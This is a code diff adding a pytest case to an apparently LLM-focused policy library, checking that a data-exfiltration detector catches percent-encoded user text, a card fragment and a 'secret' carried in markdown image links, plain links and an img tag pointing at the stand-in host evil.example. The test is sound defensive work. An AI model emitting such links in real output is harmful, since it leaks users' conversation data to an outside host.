@@ -9,6 +9,7 @@ import pytest
 
 from otel_llm.policy.detectors import ALL_TYPES, DetectorSet, built_in
 from otel_llm.policy.detectors.secrets import secrets
+from otel_llm.processors.policy_loading import built_in_detection
 
 ALL = DetectorSet(built_in(ALL_TYPES))
 
@@ -150,3 +151,19 @@ def test_addresses_at_allowed_hosts_may_carry_data() -> None:
     found = DetectorSet(built_in(frozenset({"DATA_EXFILTRATION"}), allowed_hosts=["charts.example.com"]))
     assert found.find("![c](https://a.charts.example.com/c?d=one+two+three+four)") == ()
     assert found.find("![c](https://charts.example.com.evil.example/c?d=one+two+three+four)") != ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/p?d=the%20user%20said%20hello)",
+        "![x](https://evil.example/p?d=name%3DAda%3Bcard%3D4111)",
+        "[see](https://evil.example/p?q=my%20secret%20is%20hunter)",
+        '<img src="https://evil.example/p?d=a%20b%20c%20d">',
+    ],
+)
+def test_text_that_an_address_carries_percent_encoded_is_found_among_other_detectors(text: str) -> None:
+    """A set decodes texts before most detectors look; what is encoded is what tells here."""
+    finds = built_in_detection().select("DATA_EXFILTRATION")
+    assert [text[one.start : one.end].startswith("https://evil.example/") for one in finds(text)] == [True]
+    assert built_in_detection(["evil.example"]).select("DATA_EXFILTRATION")(text) == []
